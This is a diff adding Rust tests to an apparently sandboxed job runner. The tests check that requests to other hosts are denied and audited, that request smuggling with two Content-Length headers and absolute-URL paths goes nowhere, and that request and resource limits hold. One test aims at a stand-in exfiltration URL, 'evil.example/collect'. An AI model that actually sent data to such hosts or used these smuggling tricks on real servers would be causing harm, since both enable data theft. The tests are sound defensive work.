@@ -103,6 +103,95 @@ async fn requests_that_the_job_does_not_need_are_denied_one_by_one() {
     }
 }
 
+/// However a request to another host is made, it is denied, recorded once, and fails the
+/// job; nothing leaves.
+#[tokio::test(start_paused = true)]
+async fn no_way_of_asking_makes_another_host_reachable_or_forgiven() {
+    for way in ["large-body", "trailers", "unfinished-body", "not-waiting"] {
+        let (headless, report) = attempt(way, "https://evil.example/collect").await;
+        assert_eq!(
+            report.status,
+            Status::Failure(Cause::Denied),
+            "{way}: {}",
+            report.message
+        );
+        assert!(report.list.is_none(), "{way}");
+        assert_eq!(report.traffic.denied, 1, "{way}");
+        let audit = headless.audit();
+        assert_eq!(audit.len(), 1, "{way}");
+        assert_eq!(audit[0].decision, Decision::Denied, "{way}");
+        assert_eq!(headless.emulator.requests(), [], "{way}");
+    }
+}
+
+#[tokio::test(start_paused = true)]
+async fn trailers_and_large_bodies_are_denied_where_the_head_is_granted() {
+    let list = "https://kv-one.vault.azure.net/certificates?api-version=7.6";
+    let token =
+        "https://login.microsoftonline.com/11111111-1111-4111-8111-111111111111/oauth2/v2.0/token";
+    for (way, url) in [("trailers", list), ("large-body", token)] {
+        let (headless, report) = attempt(way, url).await;
+        assert_eq!(
+            report.status,
+            Status::Failure(Cause::Denied),
+            "{way}: {}",
+            report.message
+        );
+        assert_eq!(headless.audit()[0].reason.as_deref(), Some("body"), "{way}");
+        assert_eq!(headless.emulator.requests(), [], "{way}");
+    }
+}
+
+/// GHSA-5qpp-g3j2-8frx: the socket went to the checked host, the request line named another.
+#[tokio::test(start_paused = true)]
+async fn an_absolute_url_as_path_goes_nowhere() {
+    let (headless, _) = attempt("absolute-path", "https://kv-one.vault.azure.net/x").await;
+    assert_eq!(headless.emulator.requests(), []);
+}
+
+/// GHSA-r8xh-cgf7-392j and its kin: request smuggling by two lengths.
+#[tokio::test(start_paused = true)]
+async fn two_content_lengths_go_nowhere() {
+    let token =
+        "https://login.microsoftonline.com/11111111-1111-4111-8111-111111111111/oauth2/v2.0/token";
+    let (headless, _) = attempt("two-lengths", token).await;
+    assert_eq!(headless.emulator.requests(), []);
+}
+
+#[tokio::test(start_paused = true)]
+async fn after_as_many_requests_as_a_job_may_send_nothing_more_leaves() {
+    let vault = "https://kv-one.vault.azure.net/certificates?api-version=7.6";
+    let mut headless = Headless::new(COMPONENT, &trying("get", vault));
+    headless.host.limits.requests = 0;
+    let report = headless.run(&job(JOB)).await;
+    assert_eq!(headless.emulator.requests(), []);
+    assert_eq!(headless.audit()[0].decision, Decision::Limited);
+    assert!(
+        report.message.contains("ConnectionLimitReached"),
+        "{}",
+        report.message
+    );
+}
+
+#[tokio::test(start_paused = true)]
+async fn hoarding_handles_ends_the_job() {
+    let (_, report) = attempt("hoard", "").await;
+    assert_eq!(report.status, Status::Failure(Cause::Other));
+    assert!(
+        report.message.contains("ended abnormally"),
+        "{}",
+        report.message
+    );
+}
+
+#[tokio::test(start_paused = true)]
+async fn waiting_is_not_cpu_time() {
+    let mut headless = Headless::new(COMPONENT, &trying("naps", "2000"));
+    headless.host.limits.cpu = Duration::from_secs(5);
+    let report = headless.run(&job(JOB)).await;
+    assert_eq!(report.status, Status::Success, "{}", report.message);
+}
+
 #[tokio::test(start_paused = true)]
 async fn a_panic_is_a_failure_with_its_text_as_far_as_there_is_one() {
     let (_, report) = attempt("panic", "").await;
@@ -177,6 +266,7 @@ async fn a_refused_submission_fails_the_job_that_says_success() {
         ("submit-twice", "twice"),
         ("submit-blank", "no alias"),
         ("submit-discovery", "no discovery"),
+        ("large-aliases", "longer than 256 bytes"),
     ] {
         let (_, report) = attempt(name, "").await;
         assert!(matches!(report.status, Status::Failure(_)), "{name}");
